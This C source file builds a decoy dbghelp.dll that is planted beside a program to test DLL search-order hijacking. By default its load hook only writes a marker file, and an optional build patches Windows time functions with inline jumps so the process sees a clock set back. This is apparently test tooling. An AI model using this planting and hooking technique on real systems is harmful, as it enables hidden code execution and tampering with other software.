/*
 * dbghelp.dll as an attacker would plant it beside a program that loads it by name: a file says that it ran.
 * Built with CLOCK_BEHIND_DAYS it is a tool of the test instead: its process reads a clock that is so far behind.
 */
#include <windows.h>

#define STUB(name) __declspec(dllexport) int name(void) { return 0; }
STUB(MiniDumpWriteDump) STUB(StackWalk64) STUB(SymCleanup) STUB(SymFromAddr) STUB(SymFunctionTableAccess64) STUB(SymGetLineFromAddr64)
STUB(SymGetModuleBase64) STUB(SymGetOptions) STUB(SymGetSearchPathW) STUB(SymInitialize) STUB(SymSetOptions) STUB(SymSetSearchPathW)
STUB(UnDecorateSymbolName)

#ifdef CLOCK_BEHIND_DAYS
static LONG (WINAPI *readClock)(ULARGE_INTEGER *);

static void WINAPI tellTime(FILETIME *told)
{
    ULARGE_INTEGER time;
    readClock(&time);
    time.QuadPart -= CLOCK_BEHIND_DAYS * 864000000000ULL;
    told->dwLowDateTime = time.LowPart;
    told->dwHighDateTime = time.HighPart;
}

/* From now on whoever calls the function comes to tellTime: a jump in the place of its first instruction. */
static void redirect(const WCHAR *module, const char *function)
{
    BYTE *code = (BYTE *)GetProcAddress(GetModuleHandleW(module), function);
    DWORD before;
    if (code == NULL || !VirtualProtect(code, 5, PAGE_EXECUTE_READWRITE, &before)) return;
    code[0] = 0xE9;
    *(DWORD *)(code + 1) = (DWORD)((BYTE *)tellTime - code - 5);
}

static void act(void)
{
    static const char *const functions[] = { "GetSystemTimeAsFileTime", "GetSystemTimePreciseAsFileTime" };
    readClock = (void *)GetProcAddress(GetModuleHandleW(L"ntdll.dll"), "NtQuerySystemTime");
    for (int i = 0; i < 2; i++) redirect(L"kernel32.dll", functions[i]), redirect(L"kernelbase.dll", functions[i]);
}
#else
static void act(void)
{
    CloseHandle(CreateFileW(L"C:\\attack\\ran-dbghelp.txt", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL));
}
#endif

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, LPVOID reserved)
{
    (void)instance, (void)reserved;
    if (reason == DLL_PROCESS_ATTACH) act();
    return TRUE;
}
